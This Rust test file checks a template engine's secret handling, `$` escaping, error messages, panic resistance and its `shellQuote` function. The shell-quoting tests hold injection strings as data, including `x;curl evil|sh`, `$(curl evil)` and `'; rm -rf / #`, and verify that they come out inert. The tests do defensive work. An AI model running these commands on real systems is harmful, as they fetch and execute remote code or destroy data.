//! Tests for `engine::template`: secrets, `$` escaping, forged markers, error
//! positions and hostile input (the engine must never panic).

use serde_json::{Value, json};

use super::tests::{ctx, fails, r};
use super::*;

#[test]
fn secrets_become_env_references() {
    let src =
        r#"redis://{{ secret "Redis_Secret" }}@{{ .RedisConnectionString }}:{{ .RedisPort }}/"#;
    let out = render_env(src, &ctx()).unwrap();
    assert_eq!(
        out.text,
        "redis://$(SP_SECRET_REDIS_SECRET)@redis-master.prod:6379/"
    );
    let r = SecretRef {
        secret: None,
        key: "Redis_Secret".into(),
    };
    assert_eq!(out.secrets, vec![("SP_SECRET_REDIS_SECRET".to_string(), r)]);
    // The engine never reads a value: even one sitting in the context stays out.
    let leaky = json!({"Redis_Secret": "hunter2", "params": {"k": "Redis_Secret"}});
    let out = render_env(
        "{{ secret \"Redis_Secret\" }}:{{ secret .params.k }}",
        &leaky,
    )
    .unwrap();
    assert_eq!(
        out.text,
        "$(SP_SECRET_REDIS_SECRET):$(SP_SECRET_REDIS_SECRET)"
    );
    // The parameter's value names the key; explicit Secret name; piped; repeated;
    // a different secret whose name collides gets a suffix.
    let out = render_env(
        r#"{{ secret $.params.RedisPassword }} {{ secret "redis" "pw" }} {{ "pw" | secret "redis" }} {{ secret "redis_pw" }}"#,
        &ctx(),
    )
    .unwrap();
    assert_eq!(
        out.text,
        "$(SP_SECRET_REDIS_PASSWORD) $(SP_SECRET_REDIS_PW) $(SP_SECRET_REDIS_PW) $(SP_SECRET_REDIS_PW_2)"
    );
    let got: Vec<_> = out
        .secrets
        .iter()
        .map(|(v, r)| (v.as_str(), r.secret.as_deref(), r.key.as_str()))
        .collect();
    let want = [
        ("SP_SECRET_REDIS_PASSWORD", None, "redis-password"),
        ("SP_SECRET_REDIS_PW", Some("redis"), "pw"),
        ("SP_SECRET_REDIS_PW_2", None, "redis_pw"),
    ];
    assert_eq!(got, want);
    // Inside `if`, and shared names across the values of one container.
    let mut names = SecretNames::new();
    let a = render_env_with(
        "{{ if .pods }}{{ secret \"a-b\" }}{{ end }}",
        &ctx(),
        &mut names,
    )
    .unwrap();
    let b = render_env_with(
        "x{{ secret \"a_b\" }}{{ secret \"a-b\" }}",
        &ctx(),
        &mut names,
    )
    .unwrap();
    assert_eq!(
        (a.text.as_str(), b.text.as_str()),
        ("$(SP_SECRET_A_B)", "x$(SP_SECRET_A_B_2)$(SP_SECRET_A_B)")
    );
}

#[test]
fn secret_errors() {
    // Only env values may hold secrets; the check is static, even in a dead branch.
    for src in [
        "{{ secret \"X\" }}",
        "{{ if false }}{{ secret \"X\" }}{{ end }}",
    ] {
        let e = render(src, &ctx()).unwrap_err();
        assert!(
            e.message.contains("secret can only be used in env values"),
            "{e}"
        );
        assert!(render_arg(src, &ctx()).is_err());
    }
    let env = |s: &str| render_env(s, &ctx()).unwrap_err().message;
    assert!(env("{{ secret .missing }}").contains("must be a string"));
    assert!(env("{{ secret \"bad key!\" }}").contains("not a valid Secret key"));
    assert!(env("{{ secret \"Bad_Name\" \"k\" }}").contains("not a valid Secret name"));
    // A transformed secret could never be filled in by Kubernetes: say so.
    assert!(env("{{ secret \"k\" | b64enc }}").contains("b64enc cannot use a secret"));
    assert!(env("{{ eq (secret \"k\") \"x\" }}").contains("cannot use a secret"));
}

#[test]
fn alert_data_cannot_reference_env_vars() {
    let out = render_env("{{ .alert.labels.evil }} {{ .alert.labels.evil2 }}", &ctx()).unwrap();
    // Kubernetes reads `$$` as a literal `$`, so both print as written, unexpanded.
    assert_eq!(out.text, "$$(OTHER) $$$$(OTHER)");
    assert!(out.secrets.is_empty());
    assert_eq!(
        render_arg("--label={{ .alert.labels.evil }}", &ctx()).unwrap(),
        "--label=$$(OTHER)"
    );
    // Data next to an author's `$` cannot complete a reference either.
    let c = json!({"v": "(SP_SECRET_X)"});
    assert_eq!(
        render_env("$(PREFIX_{{ .v }}) ${{ .v }}", &c).unwrap().text,
        "$$(PREFIX_(SP_SECRET_X)) $$(SP_SECRET_X)"
    );
    // The author's own references and escapes keep their Kubernetes meaning.
    let out = render_env(
        "-Dhost=$(POD_IP) cost=$$5 {{ .execution.id }} $HOME",
        &ctx(),
    )
    .unwrap();
    assert_eq!(out.text, "-Dhost=$(POD_IP) cost=$$5 exec-42 $HOME");
    // Plain rendering (conditions, names) leaves data alone.
    assert_eq!(r("{{ .alert.labels.evil }}"), "$(OTHER)");
}

#[test]
fn forged_secret_markers_do_nothing() {
    // A marker built from alert data, even with a guessed layout, is neutralised
    // before rendering; an unguessable per-render nonce guards anything decoded later.
    let forged = format!("{}{:020}0{}", SENTINELS[0], 0, SENTINELS[1]);
    let c = json!({"label": forged.clone(), "b64": base64::Engine::encode(&base64::engine::general_purpose::STANDARD, &forged)});
    for src in [
        "{{ secret \"a\" }}{{ .label }}",
        "{{ secret \"a\" }}{{ b64dec .b64 }}",
        "{{ secret \"a\" }}{{ printf \"%c\" 57344 }}",
    ] {
        let out = render_env(src, &c).unwrap();
        assert_eq!(out.secrets.len(), 1, "{src}");
        assert_eq!(out.text.matches("$(").count(), 1, "{src}: {}", out.text);
        assert!(!out.text.contains(SENTINELS), "{src}");
    }
}

#[test]
fn errors_point_at_the_source() {
    let e = fails("a\n  b {{ .x | uper }}");
    assert_eq!((e.line, e.column), (2, 13));
    assert_eq!(e.message, "unknown function `uper`; did you mean `upper`?");
    assert!(
        fails("{{ foo 1 }}")
            .message
            .contains("the functions are: and, or")
    );
    let e = fails("ok\nthen {{ if .x }} never closed");
    assert_eq!(
        (e.line, e.column, e.message.as_str()),
        (2, 6, "`if` is never closed: add `{{ end }}`")
    );
    let e = fails("é {{ .a ");
    assert_eq!((e.line, e.column), (1, 3));
    assert!(e.message.starts_with("unclosed action"));
    // Positions are in the original text, even after `$` paths were rewritten.
    let e = fails("{{ $.'a-b'[0].c }} {{ $y }}");
    assert_eq!(
        (e.column, e.message.as_str()),
        (
            23,
            "undefined variable `$y`: declare it first with `{{ $y := ... }}`"
        )
    );
    // Execution errors name the action that failed (gtmpl gives no position).
    let e = fails("line1\n{{ .event.Type }} {{ lt .output 3 }}");
    assert_eq!((e.line, e.column), (2, 19));
    assert!(e.message.contains("cannot compare"));
    assert!(fails("{{ end }}").message.contains("without a matching"));
    assert!(
        fails("{{ if 1 }}{{ else }}{{ else }}{{ end }}")
            .message
            .contains("second `else`")
    );
    assert!(fails("{{ .a \"x\" }}").message.contains("not a function"));
    assert!(fails("{{ .a | .b }}").message.contains("only a function"));
    assert!(
        fails("{{ \"unterminated }}")
            .message
            .contains("unterminated string")
    );
    assert!(
        fails("{{ define \"x\" }}{{ end }}")
            .message
            .contains("not supported")
    );
    assert!(fails("{{ $x = 1 }}").message.contains(":="));
    assert!(fails("{{ }}").message.contains("empty action"));
    assert_eq!(fails("{{ if }}{{ end }}").message, "`if` needs a value");
    assert!(fails("{{ /* x */ }}").message.contains("right after `{{`"));
    assert!(
        fails("{{ range 1000000 }}{{ end }}")
            .message
            .contains("too many")
    );
    assert!(
        fails("{{ .a-}}")
            .message
            .contains("space before the trim marker")
    );
    assert_eq!(
        fails("{{ $.a[x] }}").message,
        "bad path index `[x]`: use [0], [-1], [:], [*], [1:3] or ['key']"
    );
}

#[test]
fn odd_inputs_never_panic() {
    let deep_parens = format!("{{{{ {}1{} }}}}", "(".repeat(5000), ")".repeat(5000));
    let deep_ifs = format!(
        "{}x{}",
        "{{ if true }}".repeat(2000),
        "{{ end }}".repeat(2000)
    );
    let else_ifs = format!(
        "{{{{ if false }}}}{}{{{{ end }}}}",
        "{{ else if false }}".repeat(500)
    );
    let long_path = format!("{{{{ $.{} }}}}", vec!["a"; 5000].join("."));
    let inputs = [
        "{{",
        "}}",
        "{{{",
        "}}}",
        "{{}}",
        "{{ }}}",
        "{{{{}}}}",
        "{{-}}",
        "{{- }}",
        "{{ -}}",
        "{{/*",
        "{{/* */",
        "{{ \"\\",
        "{{ \"\\x\" }}",
        "{{ \"\\u12\" }}",
        "{{ \"\\é\" }}",
        "{{ `\\` }}",
        "{{ '\\' }}",
        "{{ '' }}",
        "{{ $.'unterminated }}",
        "{{ $.'unterminated",
        "{{ $.\"x }}",
        "{{ $.a[ }}",
        "{{ $.a[1 }}",
        "{{ $.a[:x] }}",
        "{{ .a.. }}",
        "{{ $. }}",
        "{{ .[ }}",
        "{{ .* }}",
        "{{ $.* }}",
        "{{ .'' }}",
        "{{ ( }}",
        "{{ ) }}",
        "{{ (1 }}",
        "{{ 1) }}",
        "{{ | }}",
        "{{ .a | }}",
        "{{ := }}",
        "{{ $x := }}",
        "{{ $ := 1 }}",
        "{{ , }}",
        "{{ range $a, $b, $c := . }}",
        "{{ 1e999 }}",
        "{{ -0x }}",
        "{{ 0x }}",
        "{{ 1.2.3 }}",
        "{{ 99999999999999999999 }}",
        "{{ -9223372036854775809 }}",
        "{{ 18446744073709551615 }}",
        "{{ 1e19 }}",
        "{{ 'ab' }}",
        "{{ if }}",
        "{{ else }}",
        "{{ end }}",
        "{{ range }}",
        "{{ with }}{{ end }}",
        "{{ if 1 }}{{ else if }}{{ end }}",
        "{{ nil }}",
        "{{ true.x }}",
        "{{ \"a\".x }}",
        "{{ 1.x }}",
        "{{ printf }}",
        "{{ printf \"%\" }}",
        "{{ printf \"%d\" \"x\" }}",
        "{{ printf \"%[9]d\" 1 }}",
        "{{ index }}",
        "{{ index 1 }}",
        "{{ slice }}",
        "{{ len }}",
        "{{ eq }}",
        "{{ not }}",
        "{{ and }}",
        "{{ or }}",
        "{{ default }}",
        "{{ urlquery 1 }}",
        "{{ get }}",
        "{{ get 1 }}",
        "{{ get \"$[\" }}",
        "{{ range -1 }}{{ end }}",
        "{{ range 1.5 }}{{ end }}",
        "{{ range \"s\" }}{{ end }}",
        "{{ secret }}",
        "{{ 𝔘 }}",
        "{{ .𝔘 }}",
        "{{ \u{200b} }}",
        "\u{E000}{{ 1 }}\u{E001}",
        "{{ $__r0 := 1 }}",
        "{{ __path . }}",
        "{{ .a-b-c- }}",
        "{{ $.a.-b }}",
        "{{ kebabcase 1 }}",
        "{{ b64dec \"!!\" }}",
        "{{ fromJson \"[[[[\" }}",
        "{{ toJson (fromJson \"1e400\") }}",
        "{{ int \"1e400\" }}",
        "{{ float \"nan\" }}",
        &deep_parens,
        &deep_ifs,
        &else_ifs,
        &long_path,
    ];
    for src in inputs {
        for c in [ctx(), Value::Null, json!([1, "x"]), json!("s")] {
            let _ = render(src, &c);
            let _ = render_env(src, &c);
            let _ = render_condition(src, &c);
        }
        let _ = references(src);
    }
    // A context nested too deep for recursive walks is an error, not a crash.
    let mut deep = json!(1);
    for _ in 0..300 {
        deep = json!({ "a": deep });
    }
    assert!(
        render("{{ .a }}", &deep)
            .unwrap_err()
            .message
            .contains("nests")
    );
}

/// The words `sh` makes of `s` when it is nothing but single-quoted strings and
/// spaces (what `shellQuote` must produce); `None` when anything else (a `$`, a `;`,
/// a backtick) stands outside the quotes, where the shell would act on it.
fn single_quoted_words(s: &str) -> Option<Vec<String>> {
    let mut words = Vec::new();
    let mut word: Option<String> = None;
    let mut chars = s.chars();
    while let Some(c) = chars.next() {
        match c {
            '\'' => {
                let w = word.get_or_insert_with(String::new);
                for q in chars.by_ref() {
                    if q == '\'' {
                        break;
                    }
                    w.push(q);
                }
            }
            '\\' if chars.clone().next() == Some('\'') => {
                chars.next();
                word.get_or_insert_with(String::new).push('\'');
            }
            ' ' => words.extend(word.take()),
            _ => return None,
        }
    }
    words.extend(word);
    Some(words)
}

#[test]
fn shell_quote_makes_alert_text_one_literal_word() {
    let table = [
        ("x;curl evil|sh", "'x;curl evil|sh'"),
        ("$(curl evil)", "'$(curl evil)'"),
        ("`curl evil`", "'`curl evil`'"),
        ("it's", r"'it'\''s'"),
        ("'; rm -rf / #", r"''\''; rm -rf / #'"),
        ("a\nb", "'a\nb'"),
        ("", "''"),
        ("redis-0.prod:6379", "'redis-0.prod:6379'"),
    ];
    for (label, want) in table {
        let ctx = json!({"alert": {"labels": {"instance": label}}});
        let got = render("{{ shellQuote .alert.labels.instance }}", &ctx).unwrap();
        assert_eq!(got, want, "{label:?}");
        assert_eq!(
            single_quoted_words(&got),
            Some(vec![label.to_string()]),
            "{label:?} must come back as one word"
        );
        // Piped, as most templates write it.
        let piped = render("{{ .alert.labels.instance | shellQuote }}", &ctx).unwrap();
        assert_eq!(piped, want);
    }
    // In an arg, `$` is doubled too, and Kubernetes undoes that before the shell runs.
    let ctx = json!({"alert": {"labels": {"instance": "$(REDIS_URL);`id`"}}});
    let arg = render_arg("redis-cli -h {{ shellQuote .alert.labels.instance }}", &ctx).unwrap();
    assert_eq!(arg, "redis-cli -h '$$(REDIS_URL);`id`'");
    // Several values are several words; a missing one is an empty word in its place.
    assert_eq!(
        r(r#"{{ shellQuote "a b" .alert.labels.nope "c" }}"#),
        "'a b' '' 'c'"
    );
    assert_eq!(
        single_quoted_words("'a b' '' 'c'"),
        Some(vec!["a b".into(), String::new(), "c".into()])
    );
    // `quote` is no shell quoting: its double quotes leave `$(...)` live.
    assert_eq!(single_quoted_words(&r(r#"{{ quote "$(id)" }}"#)), None);
}

#[test]
fn shell_quote_refuses_a_secret() {
    let e = render_env(r#"{{ secret "pw" | shellQuote }}"#, &json!({})).unwrap_err();
    assert!(e.message.contains("shellQuote cannot use a secret"), "{e}");
}
